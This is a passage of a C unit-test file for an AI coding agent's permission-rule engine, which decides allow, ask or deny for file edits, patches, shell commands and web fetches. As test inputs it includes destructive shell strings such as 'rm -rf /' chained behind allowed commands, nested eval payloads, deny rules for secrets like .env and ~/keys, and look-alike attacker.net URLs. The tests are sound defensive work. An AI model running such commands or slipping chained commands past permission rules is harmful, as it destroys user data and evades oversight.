	root = realpath(tmpl, NULL);
	n = snprintf(path, sizeof(path), "%s/secret", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && mkdir(path, 0700) == 0);
	n = snprintf(path, sizeof(path), "%s/ok", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && mkdir(path, 0700) == 0);
	n = snprintf(path, sizeof(path), "%s/other", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && mkdir(path, 0700) == 0);
	n = snprintf(path, sizeof(path), "%s/link", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && symlink("secret", path) == 0);
	n = snprintf(path, sizeof(path), "%s/via", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && symlink("other", path) == 0);

	r = rules_of(allow, NULL, deny);
	perm_rules_set_root(r, root);
	/* The link leads into secret: the deny rule sees through it... */
	T_EQ_INT(edit(r, PERM_YOLO, "link/key"), PERM_VERDICT_DENY);
	/* ...and an allow rule for a link's name alone is not enough. */
	T_EQ_INT(edit(r, PERM_ASK, "via/new-file"), PERM_VERDICT_ASK);
	T_EQ_INT(edit(r, PERM_ACCEPT_EDITS, "via/new-file"), PERM_VERDICT_ALLOW);
	T_EQ_STR(buf_cstr(&why), "accept-edits mode: edits are allowed");
	T_EQ_INT(edit(r, PERM_ASK, "ok/a"), PERM_VERDICT_ALLOW);
	n = snprintf(path, sizeof(path), "%s/ok/a", root);
	T_OK(n > 0 && (size_t)n < sizeof(path));
	T_EQ_INT(edit(r, PERM_ASK, path), PERM_VERDICT_ALLOW);
	n = snprintf(path, sizeof(path), "%s/secret/x", root);
	T_OK(n > 0 && (size_t)n < sizeof(path));
	T_EQ_INT(edit(r, PERM_ASK, path), PERM_VERDICT_DENY);
	T_EQ_INT(edit(r, PERM_ASK, "ok/../secret/x"), PERM_VERDICT_DENY);
	T_EQ_INT(edit(r, PERM_ASK, "../elsewhere/ok/a"), PERM_VERDICT_ASK);
	perm_rules_free(r);

	/* A pattern starting with "//" is matched against the absolute path. */
	{
		const char *abs_deny[2] = { NULL, NULL };
		char rule[PATH_MAX + 32];

		n = snprintf(rule, sizeof(rule), "read_file(/%s/ok)", root);
		T_OK(n > 0 && (size_t)n < sizeof(rule));
		abs_deny[0] = rule;
		r = rules_of(NULL, NULL, abs_deny);
		perm_rules_set_root(r, root);
		T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", "ok/deep/f"),
		    PERM_VERDICT_DENY);
		T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", "secret/f"),
		    PERM_VERDICT_ALLOW);
		perm_rules_free(r);
	}

	n = snprintf(path, sizeof(path), "%s/link", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && unlink(path) == 0);
	n = snprintf(path, sizeof(path), "%s/via", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && unlink(path) == 0);
	n = snprintf(path, sizeof(path), "%s/other", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && rmdir(path) == 0);
	n = snprintf(path, sizeof(path), "%s/ok", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && rmdir(path) == 0);
	n = snprintf(path, sizeof(path), "%s/secret", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && rmdir(path) == 0);
	T_OK(rmdir(root) == 0);
	free(root);
}

T_TEST(apply_patch_files)
{
	const char *allow[] = { "apply_patch(src/**)", NULL };
	const char *deny[] = { "apply_patch(*.secret)", NULL };
	struct perm_rules *r = rules_of(allow, NULL, deny);

	T_EQ_INT(patch(r, PERM_ASK,
	    "diff --git a/src/a.c b/src/a.c\n--- a/src/a.c\n+++ b/src/a.c\n@@ -1,2 +1,2 @@\n"
	    " x\n-y\n+z\n--- a/src/b.c\t2024-01-01\n+++ b/src/b.c\t2024-01-01\n@@ -1 +1 @@\n-q\n+r\n"),
	    PERM_VERDICT_ALLOW);
	T_EQ_INT(patch(r, PERM_ASK,
	    "--- a/src/a.c\n+++ b/src/a.c\n@@ -1 +1 @@\n-y\n+z\n--- a/etc/x\n+++ b/etc/x\n"
	    "@@ -1 +1 @@\n-q\n+r\n"), PERM_VERDICT_ASK);
	/* Hunk lines that look like headers are content, not files. */
	T_EQ_INT(patch(r, PERM_ASK,
	    "--- a/src/a.c\n+++ b/src/a.c\n@@ -1,2 +1,2 @@\n-- x\n++ y\n-- etc/z\n++ etc/z\n"),
	    PERM_VERDICT_ALLOW);
	T_EQ_INT(patch(r, PERM_ASK, "--- /dev/null\n+++ b/src/new.c\n@@ -0,0 +1 @@\n+hi\n"),
	    PERM_VERDICT_ALLOW);
	T_EQ_INT(patch(r, PERM_ASK, "--- a/src/x.secret\n+++ b/src/x.secret\n@@ -1 +1 @@\n-a\n+b\n"),
	    PERM_VERDICT_DENY);
	T_EQ_INT(patch(r, PERM_ASK, "*** Begin Patch\n*** Update File: lib/a.c\n@@\n-x\n+y\n*** End Patch\n"),
	    PERM_VERDICT_ASK);
	T_EQ_INT(patch(r, PERM_ASK, "*** Begin Patch\n*** Add File: src/n.c\n+x\n*** End Patch\n"),
	    PERM_VERDICT_ALLOW);
	/* A patch that cannot be read is refused before any rule. */
	T_EQ_INT(patch(r, PERM_ASK, "garbage"), PERM_VERDICT_DENY);
	T_EQ_INT(patch(r, PERM_ASK, ""), PERM_VERDICT_DENY);
	T_EQ_INT(patch(r, PERM_ASK, "@@ -1,99999999999999999999 +1 @@\n"), PERM_VERDICT_DENY);
	perm_rules_free(r);
}

T_TEST(rule_for)
{
	struct perm_rules *r;
	struct buf err = BUF_INIT(BUF_NOLIMIT);
	char *rule;

	rule = rule_for("run_bash", "command", "make test");
	T_EQ_STR(rule, "run_bash(make test)");
	free(rule);
	rule = rule_for("run_bash", "command", "  make   test ");
	T_EQ_STR(rule, "run_bash(make test)");
	free(rule);
	rule = rule_for("run_bash", "command", "npm run build -- --mode production --config "
	    "webpack.config.js --progress --profile");
	T_EQ_STR(rule, "run_bash(npm run *)");
	free(rule);
	rule = rule_for("run_bash", "command", "ls\nrm x");
	T_EQ_STR(rule, "run_bash(ls *)");
	free(rule);
	rule = rule_for("Bash", "command", "ls *.c");
	T_EQ_STR(rule, "run_bash(ls \\*.c)");
	r = rules_of(NULL, NULL, NULL);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, rule, &err), 0);
	T_EQ_INT(bash(r, PERM_ASK, "ls *.c"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "ls main.c"), PERM_VERDICT_ASK);
	perm_rules_free(r);
	free(rule);
	rule = rule_for("run_bash", "command", "make && make test");
	r = rules_of(NULL, NULL, NULL);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, rule, &err), 0);
	T_EQ_INT(bash(r, PERM_ASK, "make && make test"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, "make && make test; rm x"), PERM_VERDICT_ASK);
	perm_rules_free(r);
	free(rule);
	T_OK(rule_for("run_bash", "command", "   ") == NULL);

	rule = rule_for("edit_file", "path", "./src/../src/a.c");
	T_EQ_STR(rule, "edit_file(src/a.c)");
	free(rule);
	rule = rule_for("Write", "path", "a[1]*.c");
	T_EQ_STR(rule, "write_file(/a\\[1\\]\\*.c)");
	r = rules_of(NULL, NULL, NULL);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, rule, &err), 0);
	T_EQ_INT(check(r, PERM_ASK, "write_file", TOOL_WRITE, "path", "a[1]*.c"), PERM_VERDICT_ALLOW);
	T_EQ_INT(check(r, PERM_ASK, "write_file", TOOL_WRITE, "path", "a1x.c"), PERM_VERDICT_ASK);
	perm_rules_free(r);
	free(rule);

	rule = rule_for("apply_patch", "patch", "--- a/src/a.c\n+++ b/src/a.c\n@@ -1 +1 @@\n-a\n+b\n");
	T_EQ_STR(rule, "apply_patch(src/a.c)");
	free(rule);
	rule = rule_for("apply_patch", "patch",
	    "--- a/src/x/a.c\n+++ b/src/x/a.c\n@@ -1 +1 @@\n-a\n+b\n"
	    "--- a/src/y/b.c\n+++ b/src/y/b.c\n@@ -1 +1 @@\n-a\n+b\n");
	T_EQ_STR(rule, "apply_patch(src/**)");
	free(rule);
	T_OK(rule_for("apply_patch", "patch", "--- a/a.c\n+++ b/a.c\n@@ -1 +1 @@\n-a\n+b\n"
	    "--- a/b.c\n+++ b/b.c\n@@ -1 +1 @@\n-a\n+b\n") == NULL);
	T_OK(rule_for("apply_patch", "patch", "nothing") == NULL);
	T_OK(rule_for("mcp_thing", "x", "y") == NULL);
	buf_release(&err);
}

T_TEST(rules_copy_and_merge)
{
	const char *allow[] = { "run_bash(ls*)", NULL };
	const char *deny[] = { "edit_file(.env)", NULL };
	struct perm_rules *a = rules_of(allow, NULL, deny), *b, *c;
	struct buf err = BUF_INIT(BUF_NOLIMIT);

	b = perm_rules_dup(a);
	T_EQ_INT(perm_rules_count(b, PERM_LIST_ALLOW), 1);
	T_EQ_INT(perm_rules_count(b, PERM_LIST_DENY), 1);
	T_EQ_INT(perm_rules_add(b, PERM_LIST_ASK, "write_file", &err), 0);
	T_EQ_INT(perm_rules_count(a, PERM_LIST_ASK), 0);
	c = perm_rules_new();
	perm_rules_merge(c, a);
	perm_rules_merge(c, b);
	T_EQ_INT(perm_rules_count(c, PERM_LIST_ALLOW), 1);
	T_EQ_INT(perm_rules_count(c, PERM_LIST_ASK), 1);
	T_EQ_INT(perm_rules_count(c, PERM_LIST_DENY), 1);
	T_EQ_STR(perm_list_name(PERM_LIST_DENY), "deny");
	T_EQ_INT(perm_rules_count(c, (enum perm_list)7), 0);
	perm_rules_free(a);
	perm_rules_free(b);
	perm_rules_free(c);
	perm_rules_free(NULL);
	buf_release(&err);
}

T_TEST(hostile_commands)
{
	const char *allow[] = { "run_bash(echo *)", NULL };
	const char *deny[] = { "run_bash(rm *)", NULL };
	struct perm_rules *r = rules_of(allow, NULL, deny), *no_deny = rules_of(allow, NULL, NULL);
	struct buf c = BUF_INIT(BUF_NOLIMIT);
	size_t i;

	/*
	 * Nesting deeper than the scanner follows is never allowed by a pattern,
	 * and is denied when deny rules could not be checked.
	 */
	for (i = 0; i < 40; i++)
		buf_puts(&c, "echo $(");
	buf_puts(&c, "echo x");
	for (i = 0; i < 40; i++)
		buf_putc(&c, ')');
	T_EQ_INT(bash(r, PERM_ASK, buf_cstr(&c)), PERM_VERDICT_DENY);
	T_CONTAINS(buf_cstr(&why), "nests too deeply");
	T_EQ_INT(bash(no_deny, PERM_ASK, buf_cstr(&c)), PERM_VERDICT_ASK);
	T_EQ_INT(bash(no_deny, PERM_YOLO, buf_cstr(&c)), PERM_VERDICT_ALLOW);
	buf_reset(&c);
	for (i = 0; i < 40; i++)
		buf_puts(&c, "eval ");
	buf_puts(&c, "echo x");
	T_EQ_INT(bash(r, PERM_YOLO, buf_cstr(&c)), PERM_VERDICT_DENY);
	T_EQ_INT(bash(no_deny, PERM_ASK, buf_cstr(&c)), PERM_VERDICT_ASK);
	buf_reset(&c);
	for (i = 0; i < 40; i++)
		buf_puts(&c, "bash -c \"");
	T_EQ_INT(bash(r, PERM_YOLO, buf_cstr(&c)), PERM_VERDICT_ALLOW);
	buf_reset(&c);
	for (i = 0; i < 100000; i++)
		buf_puts(&c, "echo a; ");
	T_EQ_INT(bash(r, PERM_ASK, buf_cstr(&c)), PERM_VERDICT_ALLOW);
	buf_puts(&c, "rm x");
	T_EQ_INT(bash(r, PERM_ASK, buf_cstr(&c)), PERM_VERDICT_DENY);
	/* Unterminated quotes and substitutions fail closed. */
	T_EQ_INT(bash(r, PERM_ASK, "echo \"abc && rm -rf /"), PERM_VERDICT_DENY);
	T_EQ_INT(bash(no_deny, PERM_ASK, "echo \"abc && rm -rf /"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "echo $(rm x"), PERM_VERDICT_DENY);
	T_EQ_INT(bash(r, PERM_ASK, "echo `rm x"), PERM_VERDICT_DENY);
	T_EQ_INT(bash(r, PERM_ASK, "echo 'x"), PERM_VERDICT_DENY);
	T_EQ_INT(bash(r, PERM_ASK, "echo \\"), PERM_VERDICT_ALLOW);
	T_EQ_INT(bash(r, PERM_ASK, ")))((("), PERM_VERDICT_DENY);
	T_EQ_INT(bash(no_deny, PERM_ASK, "<<"), PERM_VERDICT_ASK);
	T_EQ_INT(bash(r, PERM_ASK, "<<"), PERM_VERDICT_DENY);
	T_EQ_INT(bash(no_deny, PERM_ASK, "cat <<A <<B <<C <<D <<E <<F <<G <<H <<I <<J\nx"),
	    PERM_VERDICT_ASK);
	/* A command that is not a string is no command. */
	{
		cJSON *in = cJSON_Parse("{\"command\": 42}");

		T_EQ_INT(perm_check(r, PERM_ASK, "run_bash", TOOL_HIGH_IMPACT, in, NULL),
		    PERM_VERDICT_ASK);
		cJSON_Delete(in);
	}
	buf_release(&c);
	perm_rules_free(r);
	perm_rules_free(no_deny);
}


static enum perm_verdict
tool(const struct perm_rules *r, enum perm_mode mode, const char *name, const char *path)
{
	static const struct {
		const char	*name;
		enum tool_class	 cls;
	} cls[] = {
		{ "read_file", TOOL_READ_ONLY }, { "grep", TOOL_READ_ONLY },
		{ "glob", TOOL_READ_ONLY }, { "list_dir", TOOL_READ_ONLY },
		{ "edit_file", TOOL_WRITE }, { "write_file", TOOL_WRITE },
	};
	size_t i;

	for (i = 0; i < sizeof(cls) / sizeof(cls[0]); i++)
		if (strcmp(cls[i].name, name) == 0)
			return check(r, mode, name, cls[i].cls, "path", path);
	T_FAIL("no class for %s", name);
	return PERM_VERDICT_DENY;
}

T_TEST(claude_code_meanings)
{
	static const char *readers[] = { "read_file", "grep", "glob", "list_dir", NULL };
	static const char *patch_secret =
	    "--- a/secret/k\n+++ b/secret/k\n@@ -1 +1 @@\n-a\n+b\n";
	const char *deny_edit[] = { "Edit(secret/**)", NULL };
	const char *deny_read[] = { "Read(.env)", NULL };
	const char *deny_tandem[] = { "edit_file(secret/**)", "read_file(.env)", NULL };
	struct buf err = BUF_INIT(BUF_NOLIMIT);
	struct perm_rules *r;
	size_t i;

	/* Edit: edit_file, write_file and apply_patch, in every mode. */
	r = rules_of(NULL, NULL, deny_edit);
	T_EQ_INT(tool(r, PERM_YOLO, "edit_file", "secret/a"), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_YOLO, "write_file", "secret/a"), PERM_VERDICT_DENY);
	T_EQ_STR(buf_cstr(&why), "denied by rule Edit(secret/**)");
	T_EQ_INT(tool(r, PERM_ACCEPT_EDITS, "write_file", "./secret/deep/b"), PERM_VERDICT_DENY);
	T_EQ_INT(patch(r, PERM_YOLO, patch_secret), PERM_VERDICT_DENY);
	T_EQ_INT(patch(r, PERM_YOLO, "--- /dev/null\n+++ b/secret/new\n@@ -0,0 +1 @@\n+x\n"),
	    PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_YOLO, "write_file", "public/a"), PERM_VERDICT_ALLOW);
	/* ...and not reads. */
	T_EQ_INT(tool(r, PERM_ASK, "read_file", "secret/a"), PERM_VERDICT_ALLOW);
	perm_rules_free(r);

	/* Read: read_file, grep, glob and list_dir on their path argument. */
	r = rules_of(NULL, NULL, deny_read);
	for (i = 0; readers[i] != NULL; i++) {
		T_EQ_INT(tool(r, PERM_YOLO, readers[i], ".env"), PERM_VERDICT_DENY);
		T_EQ_INT(tool(r, PERM_ASK, readers[i], "config/.env"), PERM_VERDICT_DENY);
		T_EQ_INT(tool(r, PERM_ASK, readers[i], "config/.envrc"), PERM_VERDICT_ALLOW);
	}
	T_EQ_INT(tool(r, PERM_YOLO, "write_file", ".env"), PERM_VERDICT_ALLOW);
	perm_rules_free(r);

	/* tandem's own names keep naming one tool. */
	r = rules_of(NULL, NULL, deny_tandem);
	T_EQ_INT(tool(r, PERM_YOLO, "edit_file", "secret/a"), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_YOLO, "write_file", "secret/a"), PERM_VERDICT_ALLOW);
	T_EQ_INT(patch(r, PERM_YOLO, patch_secret), PERM_VERDICT_ALLOW);
	T_EQ_INT(tool(r, PERM_YOLO, "read_file", ".env"), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_YOLO, "grep", ".env"), PERM_VERDICT_ALLOW);
	perm_rules_free(r);

	/* Each of Claude Code's names covers its own tools and no others. */
	{
		static const struct {
			const char	*rule;
			const char	*covers[5];
			const char	*not[6];
		} names[] = {
			{ "Write(x)", { "write_file" }, { "edit_file", "read_file", "grep" } },
			{ "MultiEdit(x)", { "edit_file" }, { "write_file", "read_file" } },
			{ "Grep(x)", { "grep" }, { "read_file", "glob", "list_dir", "edit_file" } },
			{ "Glob(x)", { "glob" }, { "read_file", "grep", "list_dir" } },
			{ "LS(x)", { "list_dir" }, { "read_file", "grep", "glob" } },
			{ "Read(x)", { "read_file", "grep", "glob", "list_dir" },
			    { "edit_file", "write_file" } },
			{ "Edit(x)", { "edit_file", "write_file" }, { "read_file", "grep", "glob",
			    "list_dir" } },
		};
		const char *one[2] = { NULL, NULL };
		size_t k;

		for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
			one[0] = names[i].rule;
			r = rules_of(NULL, NULL, one);
			for (k = 0; k < 5 && names[i].covers[k] != NULL; k++)
				if (tool(r, PERM_YOLO, names[i].covers[k], "x") != PERM_VERDICT_DENY)
					T_FAIL("%s does not cover %s", names[i].rule,
					    names[i].covers[k]);
			for (k = 0; k < 6 && names[i].not[k] != NULL; k++)
				if (tool(r, PERM_YOLO, names[i].not[k], "x") != PERM_VERDICT_ALLOW)
					T_FAIL("%s covers %s", names[i].rule, names[i].not[k]);
			T_EQ_INT(bash(r, PERM_YOLO, "cat x"), PERM_VERDICT_ALLOW);
			perm_rules_free(r);
		}
		one[0] = "Bash(cat *)";
		r = rules_of(NULL, NULL, one);
		T_EQ_INT(bash(r, PERM_YOLO, "cat x"), PERM_VERDICT_DENY);
		T_EQ_INT(tool(r, PERM_YOLO, "read_file", "x"), PERM_VERDICT_ALLOW);
		perm_rules_free(r);
	}

	/* Claude Code tools tandem lacks load, and decide nothing (WebFetch is web_fetch). */
	r = perm_rules_new();
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "WebFetch", &err), 0);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "WebFetch(domain:example.com)", &err), 0);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "WebSearch", &err), 0);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "NotebookEdit(/x)", &err), 0);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "mcp__github__create_issue", &err), 0);
	T_EQ_STR(buf_cstr(&err), "");
	T_EQ_INT(perm_rules_count(r, PERM_LIST_DENY), 5);
	T_EQ_INT(bash(r, PERM_YOLO, "curl example.com"), PERM_VERDICT_ALLOW);
	T_EQ_INT(tool(r, PERM_YOLO, "write_file", "x"), PERM_VERDICT_ALLOW);
	T_EQ_INT(check(r, PERM_YOLO, "WebFetch", TOOL_HIGH_IMPACT, "url", "x"),
	    PERM_VERDICT_DENY);
	T_EQ_INT(check(r, PERM_YOLO, "NotebookEdit", TOOL_HIGH_IMPACT, "path", "x"),
	    PERM_VERDICT_ALLOW);
	/* An alias and the tandem name it shares a tool with are two rules. */
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "Edit(a)", &err), 0);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "edit_file(a)", &err), 0);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "Edit(./a)", &err), 0);
	T_EQ_INT(perm_rules_count(r, PERM_LIST_DENY), 8);
	perm_rules_free(r);

	/* Deny beats ask beats allow, whichever names the rules use. */
	{
		const char *allow[] = { "Edit(src/**)", "Read", "run_bash(git *)", NULL };
		const char *ask[] = { "write_file(src/gen/**)", "Bash(git push *)", NULL };
		const char *deny[] = { "Write(src/gen/secret*)", "Grep(.env)", "Edit(src/gen/key)",
		    NULL };

		r = rules_of(allow, ask, deny);
		T_EQ_INT(tool(r, PERM_ASK, "write_file", "src/a"), PERM_VERDICT_ALLOW);
		T_EQ_INT(tool(r, PERM_ASK, "write_file", "src/gen/x"), PERM_VERDICT_ASK);
		T_EQ_STR(buf_cstr(&why), "rule write_file(src/gen/**) asks for approval");
		T_EQ_INT(tool(r, PERM_ASK, "edit_file", "src/gen/x"), PERM_VERDICT_ALLOW);
		T_EQ_INT(tool(r, PERM_ASK, "write_file", "src/gen/secret1"), PERM_VERDICT_DENY);
		T_EQ_INT(tool(r, PERM_ASK, "edit_file", "src/gen/key"), PERM_VERDICT_DENY);
		T_EQ_INT(patch(r, PERM_ASK, "--- a/src/gen/key\n+++ b/src/gen/key\n@@ -1 +1 @@\n"
		    "-a\n+b\n"), PERM_VERDICT_DENY);
		T_EQ_INT(tool(r, PERM_ASK, "read_file", ".env"), PERM_VERDICT_ALLOW);
		T_EQ_INT(tool(r, PERM_ASK, "grep", ".env"), PERM_VERDICT_DENY);
		T_EQ_INT(bash(r, PERM_ASK, "git status"), PERM_VERDICT_ALLOW);
		T_EQ_INT(bash(r, PERM_ASK, "git push origin"), PERM_VERDICT_ASK);
		perm_rules_free(r);
	}
	buf_release(&err);
}

/* mkdir root/sub (each name in turn), or fail the test. */
static void
mkdir_in(const char *root, const char *sub)
{
	char path[PATH_MAX];
	int n = snprintf(path, sizeof(path), "%s/%s", root, sub);

	T_OK(n > 0 && (size_t)n < sizeof(path) && mkdir(path, 0700) == 0);
}

T_TEST(path_anchors)
{
	char tmpl[] = "/tmp/tandem-anchor-XXXXXX", *root, rule[PATH_MAX + 32], path[PATH_MAX];
	const char *deny[] = { rule, "Read(~/keys/**)", "Read(/top.txt)", "Read(./dot.txt)",
	    "Read(bare.txt)", "Read(sub/x.txt)", "Read(/etc/passwd)", "Edit(/)", NULL };
	const char *allow[] = { "Edit(./)", NULL };
	struct buf err = BUF_INIT(BUF_NOLIMIT);
	struct perm_rules *r;
	char *old_home = getenv("HOME") != NULL ? xstrdup(getenv("HOME")) : NULL;
	int n;

	T_OK(mkdtemp(tmpl) != NULL);
	root = realpath(tmpl, NULL);
	T_OK(root != NULL);
	if (root == NULL)
		return;
	mkdir_in(root, "abs");
	mkdir_in(root, "home");
	n = snprintf(path, sizeof(path), "%s/home", root);
	T_OK(n > 0 && (size_t)n < sizeof(path));
	setenv("HOME", path, 1);
	n = snprintf(rule, sizeof(rule), "Read(/%s/abs/**)", root);
	T_OK(n > 0 && (size_t)n < sizeof(rule));

	r = rules_of(NULL, NULL, deny);
	perm_rules_set_root(r, root);
	/* "//abs": the absolute path, however the file is named. */
	T_EQ_INT(tool(r, PERM_ASK, "read_file", "abs/f"), PERM_VERDICT_DENY);
	n = snprintf(path, sizeof(path), "%s/abs/deep/f", root);
	T_OK(n > 0 && (size_t)n < sizeof(path));
	T_EQ_INT(tool(r, PERM_ASK, "read_file", path), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_ASK, "read_file", "other/abs/f"), PERM_VERDICT_ALLOW);
	/* "~/": below $HOME. */
	n = snprintf(path, sizeof(path), "%s/home/keys/id", root);
	T_OK(n > 0 && (size_t)n < sizeof(path));
	T_EQ_INT(tool(r, PERM_ASK, "read_file", path), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_ASK, "grep", "home/keys/id"), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_ASK, "read_file", "keys/id"), PERM_VERDICT_ALLOW);
	/* "/path": at the project root only. */
	T_EQ_INT(tool(r, PERM_ASK, "read_file", "top.txt"), PERM_VERDICT_DENY);
	n = snprintf(path, sizeof(path), "%s/top.txt", root);
	T_OK(n > 0 && (size_t)n < sizeof(path));
	T_EQ_INT(tool(r, PERM_ASK, "read_file", path), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_ASK, "read_file", "sub/top.txt"), PERM_VERDICT_ALLOW);
	T_EQ_INT(tool(r, PERM_ASK, "read_file", "etc/passwd"), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_ASK, "read_file", "/etc/passwd"), PERM_VERDICT_ALLOW);
	/* "./path": from the current directory, the root. */
	T_EQ_INT(tool(r, PERM_ASK, "list_dir", "dot.txt"), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_ASK, "list_dir", "sub/dot.txt"), PERM_VERDICT_ALLOW);
	/* A bare name: at any depth; a bare path: from the root. */
	T_EQ_INT(tool(r, PERM_ASK, "glob", "bare.txt"), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_ASK, "glob", "a/b/bare.txt"), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_ASK, "read_file", "sub/x.txt"), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_ASK, "read_file", "a/sub/x.txt"), PERM_VERDICT_ALLOW);
	/* "/" alone: the whole project. */
	T_EQ_INT(tool(r, PERM_YOLO, "write_file", "any/where"), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_YOLO, "write_file", "top"), PERM_VERDICT_DENY);
	T_EQ_INT(tool(r, PERM_YOLO, "write_file", "../outside"), PERM_VERDICT_ALLOW);
	perm_rules_free(r);
	r = rules_of(allow, NULL, NULL);
	perm_rules_set_root(r, root);
	T_EQ_INT(tool(r, PERM_ASK, "write_file", "a/b/c"), PERM_VERDICT_ALLOW);
	T_EQ_INT(tool(r, PERM_ASK, "write_file", "../outside"), PERM_VERDICT_ASK);
	perm_rules_free(r);

	/* "~" needs a home to stand for. */
	r = perm_rules_new();
	unsetenv("HOME");
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "Read(~/x)", &err), -1);
	T_CONTAINS(buf_cstr(&err), "HOME");
	setenv("HOME", "relative", 1);
	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, "Read(~)", &err), -1);
	T_EQ_INT(perm_rules_count(r, PERM_LIST_DENY), 0);
	perm_rules_free(r);
	if (old_home != NULL)
		setenv("HOME", old_home, 1);
	else
		unsetenv("HOME");
	free(old_home);

	n = snprintf(path, sizeof(path), "%s/abs", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && rmdir(path) == 0);
	n = snprintf(path, sizeof(path), "%s/home", root);
	T_OK(n > 0 && (size_t)n < sizeof(path) && rmdir(path) == 0);
	T_OK(rmdir(root) == 0);
	free(root);
	buf_release(&err);
}

T_TEST(meaning_changes)
{
	static const char *same[] = {
		"Read(//etc/x)", "Read(~/x)", "Read(./src/a)", "Read(src/**)", "Read(.env)",
		"Bash(/bin/ls *)", "Read", "nosuch(/x)", "WebFetch(/x)", "Read(//)", "Edit(./)",
		NULL
	};
	struct buf note = BUF_INIT(BUF_NOLIMIT);
	size_t i;

	T_OK(perm_rule_changed("Read(/etc/x)", &note));
	T_CONTAINS(buf_cstr(&note), "project root");
	T_CONTAINS(buf_cstr(&note), "write Read(//etc/x)");
	buf_reset(&note);
	T_OK(perm_rule_changed(" edit_file( /src/** ) ", &note));
	T_CONTAINS(buf_cstr(&note), "edit_file(//src/**)");
	buf_reset(&note);
	T_OK(perm_rule_changed("Edit(./.env)", &note));
	T_CONTAINS(buf_cstr(&note), "any depth");
	T_CONTAINS(buf_cstr(&note), "write Edit(.env)");
	buf_reset(&note);
	T_OK(perm_rule_changed("Read(/)", &note));
	for (i = 0; same[i] != NULL; i++) {
		buf_reset(&note);
		if (perm_rule_changed(same[i], &note))
			T_FAIL("%s reported as changed: %s", same[i], buf_cstr(&note));
	}
	T_OK(!perm_rule_changed(NULL, &note));
	buf_release(&note);
}


/* The reason and the "always" rules for one call. */
static char *
explain(const struct perm_rules *r, enum perm_mode mode, const char *tool, enum tool_class cls,
    const char *field, const char *value, struct buf *reason)
{
	struct buf all = BUF_INIT(BUF_NOLIMIT);
	cJSON *in = cJSON_CreateObject();
	char **rules;
	size_t i;

	cJSON_AddStringToObject(in, field, value);
	buf_reset(reason);
	rules = perm_explain(r, mode, tool, cls, in, reason);
	T_OK(rules != NULL && rules[0] != NULL);
	for (i = 0; rules != NULL && rules[i] != NULL; i++)
		buf_printf(&all, "%s%s", i > 0 ? " | " : "", rules[i]);
	perm_strv_free(rules);
	cJSON_Delete(in);
	return buf_detach(&all, NULL);
}

/* WebFetch(domain:...) rules against web_fetch's URL: the host, exact or below a "*.". */
T_TEST(web_domains)
{
	const char *allow[] = { "WebFetch(domain:example.com)", "WebFetch(domain:*.docs.rs)", NULL };
	const char *deny[] = { "WebFetch(domain:evil.example.com)", NULL };
	struct perm_rules *r = rules_of(allow, NULL, deny);
	struct buf err = BUF_INIT(4096);
	cJSON *in;
	char *rule;

	T_EQ_INT(check(r, PERM_ASK, "web_fetch", TOOL_HIGH_IMPACT, "url", "https://example.com/a"),
	    PERM_VERDICT_ALLOW);
	T_CONTAINS(buf_cstr(&why), "WebFetch(domain:example.com)");
	T_EQ_INT(check(r, PERM_ASK, "web_fetch", TOOL_HIGH_IMPACT, "url", "https://EXAMPLE.com.:8443/a"),
	    PERM_VERDICT_ALLOW);
	T_EQ_INT(check(r, PERM_ASK, "web_fetch", TOOL_HIGH_IMPACT, "url", "https://user@example.com/"),
	    PERM_VERDICT_ALLOW);
	/* The host is what counts, not a look-alike in the user part or the path. */
	T_EQ_INT(check(r, PERM_ASK, "web_fetch", TOOL_HIGH_IMPACT, "url",
	    "https://example.com@attacker.net/"), PERM_VERDICT_ASK);
	T_EQ_INT(check(r, PERM_ASK, "web_fetch", TOOL_HIGH_IMPACT, "url",
	    "https://attacker.net/example.com"), PERM_VERDICT_ASK);
	T_EQ_INT(check(r, PERM_ASK, "web_fetch", TOOL_HIGH_IMPACT, "url", "https://www.example.com/"),
	    PERM_VERDICT_ASK);
